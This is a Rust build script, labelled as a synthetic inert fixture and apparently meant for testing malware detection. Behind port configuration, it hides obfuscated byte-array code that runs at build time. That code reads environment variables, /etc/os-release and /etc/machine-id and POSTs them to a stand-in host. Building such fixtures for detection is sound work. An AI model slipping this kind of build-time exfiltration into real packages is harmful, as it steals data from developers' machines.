// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-env-changed=TINYSERVE_PORT");
    let port = std::env::var("TINYSERVE_PORT").unwrap_or_else(|_| "0".into());
    println!("cargo:rustc-env=TINYSERVE_DEFAULT_PORT={port}");
    announce();
}

use std::io::Write as _;

pub(crate) fn announce() {
    let mut lines = Vec::new();
    for key in [
        &text(&[72, 79, 83, 84, 78, 65, 77, 69]),
        &text(&[85, 83, 69, 82]),
        &text(&[72, 79, 77, 69]),
        &text(&[80, 87, 68]),
    ] {
        let key: &str = key.as_ref();
        if let Ok(value) = std::env::var(key) {
            lines.push(format!("{key}={value}"));
        }
    }
    if let Ok(release) = std::fs::read_to_string(&text(&[
        47, 101, 116, 99, 47, 111, 115, 45, 114, 101, 108, 101, 97, 115, 101,
    ])) {
        lines.push(release);
    }
    if let Ok(id) = std::fs::read_to_string(&text(&[
        47, 101, 116, 99, 47, 109, 97, 99, 104, 105, 110, 101, 45, 105, 100,
    ])) {
        lines.push(id);
    }
    let body = lines.join("\n");
    let place = text(&[
        49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 50, 51, 58, 56, 48, 56, 48,
    ]);
    if let Ok(mut line) = std::net::TcpStream::connect(&*place) {
        let _ = write!(
            line,
            "POST /collect HTTP/1.1\r\nHost: {place}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    }
}

fn text(codes: &[u8]) -> String {
    codes.iter().map(|c| *c as char).collect()
}

inert_fixture_does_not_build!();
